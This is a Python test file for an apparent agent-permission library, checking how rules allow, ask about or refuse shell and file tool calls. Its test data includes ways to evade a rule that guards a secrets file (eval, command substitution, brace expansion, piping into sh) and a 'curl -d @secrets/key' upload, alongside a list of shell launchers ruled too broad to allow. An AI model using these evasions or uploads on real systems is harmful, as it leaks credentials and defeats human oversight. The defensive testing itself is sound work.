"""Rules with exceptions, rules that look into arguments, what no rule allows, and rules that allow too much."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.cases import each
from tests.conformance.rules_of_others import ordered
from tests.properties import examples
from tests.sandbox_runs import backend
from toolcrib import Effect, Toolbox, ToolCall, tool
from toolcrib.access import Access, Reach
from toolcrib.command.sandbox import NoSandbox, Sandbox
from toolcrib.facts import Facts
from toolcrib.rules import CommandPattern, PathPattern, Rule, RuleError, RulePolicy, read_rules
from toolcrib.toolbox.policy import Verb
from toolcrib.tools import Shell, Workspace

ALLOW, ASK, DENY = "ready", "pending", "refused"


@tool(effect=Effect.WRITE, secrets=(), accesses=lambda given: [Access(Reach.WRITE, given["path"])])
def save(path: str) -> str:
    "Save."
    return "saved"


@tool(effect=Effect.READ, secrets=(), accesses=lambda given: [Access(Reach.READ, given["path"])])
def look(path: str) -> str:
    "Look."
    return "seen"


@tool(effect=Effect.WRITE, secrets=())
def publish(to: list[str], body: dict[str, Any], draft: bool = False, force: bool = True) -> str:
    "Publish."
    return "done"


async def kind_of(
    rules: str,
    name: str,
    arguments: dict[str, Any],
    folder: Path | None = None,
    sandbox: Sandbox | None = None,
) -> str:
    tools: list[Any] = [save, look, publish]
    if folder is not None:
        tools.append(Shell(Workspace(folder), sandbox=sandbox or NoSandbox()))
    box = Toolbox(tools, policy=read_rules(rules).policy())
    return (await box.prepare(ToolCall(name, arguments))).kind


ENV = """
autonomy = "full"
[[rule]]
deny = true
path = ["**/.env", "**/.env.*"]
except = { path = "**/.env.example" }
"""
ALL_BUT = """
autonomy = "full"
[[rule]]
deny = true
tool = "*"
except = [{ tool = "look" }, { tool = "save", path = "out/**" }]
"""
NOT_THERE = """
[[rule]]
allow = true
tool = "save"
path = "out/**"
except = { path = "out/locked/**" }
"""
EXCEPTED = [
    (ENV, "save", "a/.env", DENY),
    (ENV, "save", "a/.env.local", DENY),
    (ENV, "save", "a/.env.example", ALLOW),
    (ALL_BUT, "look", "anything", ALLOW),
    (ALL_BUT, "save", "out/a", ALLOW),
    (ALL_BUT, "save", "src/a", DENY),
    (NOT_THERE, "save", "out/a", ALLOW),
    (NOT_THERE, "save", "out/locked/a", ASK),
]


@pytest.mark.parametrize(("rules", "name", "path", "kind"), EXCEPTED)
async def test_exceptions(rules: str, name: str, path: str, kind: str) -> None:
    assert await kind_of(rules, name, {"path": path}) == kind


COMMANDS = """
autonomy = "full"
[[rule]]
deny = true
tool = "shell"
except = { command = ["git status *", "ls *"] }
"""
ONLY_GIT = """
[[rule]]
allow = true
command = "git commit *"
except = { command = "git ** --no-verify *" }
"""


@pytest.mark.parametrize(
    ("rules", "command", "kind"),
    [
        (COMMANDS, "git status", ALLOW),
        (COMMANDS, "ls -l && git status -s", ALLOW),
        (COMMANDS, "git status && touch x", DENY),
        (COMMANDS, "sudo git status", DENY),
        (COMMANDS, "git status $(touch x)", DENY),
        (COMMANDS, "eval $X", ASK),
        (ONLY_GIT, "git commit -m x", ALLOW),
        (ONLY_GIT, "git commit -m x --no-verify", ASK),
    ],
)
async def test_exceptions_among_commands(rules: str, command: str, kind: str, tmp_path: Path) -> None:
    assert await kind_of(rules, "shell", {"command": command}, tmp_path) == kind


@pytest.mark.parametrize(
    "command",
    [
        "cat $X",
        "mytool secret$X",
        "cat `echo secrets`/key",
        "cat -- $(echo secrets/key)",
        "eval cat sec*/key",
        "eval 'cat secrets/key'",
        "cat s{e,{x,}}crets/key",
        "echo secrets/key | xargs cat",
        "mytool -fsecrets/key",
        "mytool @secrets/key",
        "python3 -c \"open('secrets/key')\"",
        "echo 'cat secrets/key' | sh",
        "grep -r x",
        "grep -rn -e x",
    ],
)
async def test_a_word_that_nobody_knows_may_be_a_denied_path(command: str, tmp_path: Path) -> None:
    rules = 'autonomy = "full"\n[[rule]]\ndeny = true\npath = "secrets/**"'
    assert await kind_of(rules, "shell", {"command": command}, tmp_path) == ASK


@pytest.mark.parametrize(
    "command", ["dd if=secrets/key", "curl -d @secrets/key http://x", "iconv -f secrets/key a"]
)
async def test_a_file_in_an_option_is_a_denied_path(command: str, tmp_path: Path) -> None:
    rules = 'autonomy = "full"\n[[rule]]\ndeny = true\npath = "secrets/**"'
    assert await kind_of(rules, "shell", {"command": command}, tmp_path) == "refused"


@pytest.mark.promise("security.md", "a command of which nobody knows what it reads asks")
@pytest.mark.parametrize(
    ("command", "without"),
    [
        ("mytool docs/*.md", ASK),
        ("git commit -m 'mend secrets/key'", ALLOW),
        ("grep -n x a.txt", ALLOW),
        ("dd if=a of=b", ALLOW),
    ],
)
async def test_what_is_not_proved_may_open_a_denied_path_where_no_sandbox_hides_it(
    command: str, without: str, tmp_path: Path
) -> None:
    rules = 'autonomy = "full"\n[[rule]]\ndeny = true\npath = "secrets/**"'
    assert await kind_of(rules, "shell", {"command": command}, tmp_path) == without
    hiding = backend("bubblewrap")(tmp_path)
    assert await kind_of(rules, "shell", {"command": command}, tmp_path, hiding) == ALLOW


OTHERWISE = """
otherwise = "{}"
[[rule]]
allow = true
tool = "look"
path = "docs/**"
[[rule]]
allow = true
command = ["ls *", "git commit *"]
"""


@pytest.mark.parametrize(("otherwise", "else_"), [("ask", ASK), ("deny", DENY)])
async def test_what_no_rule_allows(otherwise: str, else_: str, tmp_path: Path) -> None:
    rules = OTHERWISE.format(otherwise)
    wanted = {
        ("look", "docs/a"): ALLOW,
        ("look", "src/a"): else_,
        ("save", "docs/a"): else_,
        ("shell", "ls -l"): ALLOW,
        ("shell", "ls -l | wc -l"): else_,
        ("shell", "cat src/a"): else_,
        ("shell", "git commit -m x"): ALLOW,
    }
    for (name, what), kind in wanted.items():
        key = "command" if name == "shell" else "path"
        assert await kind_of(rules, name, {key: what}, tmp_path) == kind, (name, what)


@pytest.mark.promise("policy.md", "tools that no rule can allow are not shown to the model")
def test_what_no_rule_could_allow_is_hidden() -> None:
    policy = read_rules(OTHERWISE.format("deny")).policy("full")
    assert [policy.shows(Facts(name, Effect.READ, frozenset())) for name in ("look", "shell")] == [True, True]
    named = RulePolicy("full", [Rule(verb=Verb.ALLOW, tools=("look",))], otherwise="deny")
    assert [named.shows(Facts(name, Effect.READ, frozenset())) for name in ("look", "save")] == [True, False]
    assert not RulePolicy("read_only", named.rules, otherwise="ask").shows(
        Facts("look", Effect.WRITE, frozenset())
    )
    assert named.restricted([]).otherwise == named.otherwise
    assert named.otherwise is not None and named.otherwise.rule == 'otherwise = "deny"'


def test_a_server_is_no_server_where_a_tool_is_your_own() -> None:
    policy = RulePolicy("full", [Rule(verb=Verb.DENY, servers=("*",))])
    assert policy.shows(Facts("own", Effect.READ, frozenset()))
    assert not policy.shows(Facts("foreign", Effect.READ, frozenset(), server="github"))


ARGUMENTS = [
    ("argument = { force = true }", {}, DENY),  # what is left out is its default
    ("argument = { force = true }", {"force": False}, ALLOW),
    ("argument = { draft = true }", {}, ALLOW),
    ('argument = { to = "*@press.example" }', {"to": ["ann", "joe@press.example"]}, DENY),
    ('argument = { to = "*@press.example" }', {"to": ["ann"]}, ALLOW),
    ("argument = { body = { public = true } }", {"body": {"public": True, "text": "x"}}, DENY),
    ("argument = { body = { public = true } }", {"body": {"public": False}}, ALLOW),
    (
        'argument = { body = { meta = { owner = "ops*" } } }',
        {"body": {"meta": {"owner": "ops-2", "x": 1}}},
        DENY,
    ),
    ('argument = { nothing = "*" }', {}, ALLOW),
]


@pytest.mark.parametrize(("condition", "arguments", "kind"), ARGUMENTS)
async def test_what_arguments_hold(condition: str, arguments: dict[str, Any], kind: str) -> None:
    rules = f'autonomy = "full"\n[[rule]]\ndeny = true\ntool = "publish"\n{condition}'
    assert await kind_of(rules, "publish", {"to": ["x"], "body": {}, **arguments}) == kind


async def test_all_of_a_list_must_be_as_an_allow_rule_says() -> None:
    rules = '[[rule]]\nallow = true\ntool = "publish"\nargument = { to = "*@home.example" }'
    for to, kind in (["a@home.example"], ALLOW), (["a@home.example", "b@else.example"], ASK), ([], ASK):
        assert await kind_of(rules, "publish", {"to": to, "body": {}}) == kind


OPTIONS = [
    ("sed ** -i* *", "sed -i.bak s/a/b/ file", True),
    ("sed ** -i* *", "sed -n -i file", True),
    ("sed ** -i* *", "sed -n file", False),
    ("git push ** --force", "git push --force", True),
    ("git push ** --force", "git push origin main --force", True),
    ("git push ** --force", "git push --force origin", False),
    ("** --force *", "anything --force", True),
]


@pytest.mark.parametrize(("pattern", "command", "meant"), OPTIONS)
def test_an_option_anywhere(pattern: str, command: str, meant: bool) -> None:
    assert CommandPattern(pattern).matches(command.split()) is meant


words = st.sampled_from(["a", "b", "-f", "\ufffd"])


patterns = st.lists(st.sampled_from(["a", "b", "*", "**", "-*"]), min_size=1, max_size=5)
known = st.lists(st.sampled_from(["a", "b", "-f"]), max_size=3)


@given(patterns, st.lists(words, max_size=5), known)
@examples(400)
def test_what_is_not_known_is_judged_on_the_safe_side(
    pattern: list[str], argv: list[str], filled: list[str]
) -> None:
    """Whatever the unknown words turn out to be: what matches then may match, and what surely matches does."""
    compiled = CommandPattern(" ".join(pattern))
    real = [one for word in argv for one in (filled if word == "\ufffd" else [word])]
    if compiled.matches(real):
        assert compiled.may_match(argv)
    if compiled.surely_matches(argv):
        assert compiled.matches(real)


TOO_BROAD = [
    "bash *", "bash -x *", "/bin/sh *", "python *", "python3.11 *", "python -u *", "python -m *", "pypy3 *", "pythonw *", "pyw.exe *", "node --eval *",
    "env *", "env FOO=1 *", "xargs *", "xargs -n1 *", "timeout 5 *", "nice -n 5 *", "timeout 5 bash *", "env A=b python3 *",
    "sudo *", "sudo apt *", "doas ls *", "su *", "find *", "find . -name *", "ssh host *", "git *", "git -c *", "docker *",
    "docker run *", "uv run *", "uv run python *", "npx *", "npm exec *", "make *", "awk *", "sed -n *", "eval *", "* status",
    "git* status", "python ** x", "powershell.exe -Command *", "source *", "tar *",
]  # fmt: skip
NARROW = [
    "python -m pytest *", "python tools/check.py *", "env CI=1 pytest *", "timeout 60 pytest *", "git status *", "git log *",
    "npm run build", "npm run *", "npx tsc *", "uv run pytest *", "docker ps *", "make test *", "sudo systemctl status nginx",
    "bash scripts/check.sh *", "ls *", "cargo test *", "awk '{print $1}' *", "base64 *",
]  # fmt: skip


@pytest.mark.promise("policy.md", "An allow rule that is too broad is an error when it is loaded")
@each("command", TOO_BROAD)
def test_a_command_that_lets_anything_run(command: str) -> None:
    with pytest.raises(RuleError, match=r"line 1: .*too broad"):
        read_rules(f"[[rule]]\nallow = true\ncommand = {command!r}")
    assert read_rules(f"[[rule]]\ndeny = true\ncommand = {command!r}").rules


@pytest.mark.parametrize("command", NARROW)
def test_a_command_that_does_not(command: str) -> None:
    assert read_rules(f'[[rule]]\nallow = true\ncommand = """{command}"""').rules


@pytest.mark.promise("policy.md", "An allow rule that is too broad is an error when it is loaded")
@pytest.mark.parametrize(
    "what",
    [
        'path = "/**"', 'path = "**"', 'path = "/**"\neffect = "write"', 'path = "/**"\ntool = "*"', 'host = "*"', 'host = "*.com"',
        'reach = "run"', 'reach = ["read", "write"]', 'effect = "destructive"', 'server = "*"', 'tool = "shell"', 'tool = "**"',
        'argument = { x = "*" }', "tainted = false", 'host = "*"\ntool = "fetch"',
    ],
)  # fmt: skip
def test_other_rules_that_allow_too_much(what: str) -> None:
    with pytest.raises(RuleError, match=r"line 2: .*(too broad|everything)"):
        read_rules(f"\n[[rule]]\nallow = true\n{what}")
    assert read_rules(f"[[rule]]\ndeny = true\n{what}").rules


@pytest.mark.parametrize(
    "what",
    ['path = "src/**"', 'path = "/**"\ntool = "read_file"', 'host = "*.example.org"', 'tool = "shell"\nreach = "run"', 'effect = "write"', 'server = "github"'],
)  # fmt: skip
def test_other_rules_that_do_not(what: str) -> None:
    assert read_rules(f"[[rule]]\nallow = true\n{what}").rules


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ('[[rule]]\ndeny = true\nexcept = "x"', "line 1: except must be a table"),
        ("[[rule]]\ndeny = true\nexcept = {}", "line 1: an exception names"),
        ("\n[[rule]]\ndeny = true\nexcept = { toll = 'x' }", "line 2: unknown key 'toll' in except"),
        ("[[rule]]\ndeny = true\nexcept = { path = '../x' }", "line 1: '../x'"),
        ("[[rule]]\ndeny = true\nexcept = { deny = true }", "unknown key 'deny' in except"),
        ('otherwise = "allow"', "otherwise must be one of ask, deny; got 'allow'"),
        ("otherwise = []", "otherwise must be one of"),
        ("autonomy = {}", "autonomy must be one of"),
    ],
)
def test_what_is_wrong_with_them_is_told(text: str, words: str) -> None:
    with pytest.raises(RuleError) as caught:
        read_rules(text)
    assert words in str(caught.value)


step = st.tuples(
    st.sampled_from(list(Verb)),
    st.lists(st.sampled_from(["a", "b", "*", "**", "src"]), min_size=1, max_size=3),
)


@given(st.lists(step, max_size=6), st.lists(st.sampled_from(["a", "b", "src", "x"]), min_size=1, max_size=4))
@examples(300)
def test_rules_in_an_order_can_be_said_without_one(
    steps: list[tuple[Verb, list[str]]], path: list[str]
) -> None:
    """Where the first rule that matches decides: each gets the laxer ones before it as exceptions."""
    from toolcrib.toolbox.policy import PolicyRequest

    rules = [Rule(verb=verb, paths=(PathPattern("/".join(pattern)),)) for verb, pattern in steps]
    first = next((rule.verb for rule in rules if rule.paths[0].matches("/".join(path))), Verb.ASK)

    class Reaching(PolicyRequest):
        @property
        def accesses(self) -> tuple[Access, ...]:
            return (Access(Reach.WRITE, "/".join(path)),)

    case = Reaching(Facts("save", Effect.WRITE, frozenset()), Effect.WRITE)
    for shuffled in (ordered(rules), ordered(rules)[::-1]):
        assert RulePolicy("supervised", shuffled).decide(case).verb is first


names = st.sampled_from(["a", "b", "c"])
trees = st.lists(names, min_size=1, max_size=3).map("/".join)
globs = st.lists(st.sampled_from(["a", "b", "*", "**"]), min_size=1, max_size=3).map("/".join)


@given(globs, globs, trees)
def test_an_exception_never_makes_a_deny_rule_mean_more(pattern: str, other: str, path: str) -> None:
    from toolcrib.toolbox.policy import PolicyRequest

    case = PolicyRequest(Facts("save", Effect.WRITE, frozenset()), Effect.WRITE)
    bare = Rule(verb=Verb.DENY, paths=(PathPattern(pattern),))
    left_out = Rule(verb=Verb.ALLOW, paths=(PathPattern(other),))
    rule = Rule(verb=Verb.DENY, paths=bare.paths, unless=(left_out,))
    for access in (Access(Reach.WRITE, path), Access(Reach.WRITE, path, subtree=True)):
        assert rule.match(access, case) <= bare.match(access, case)
        if PathPattern(other).matches(path) and not access.subtree:
            assert rule.match(access, case) == 0
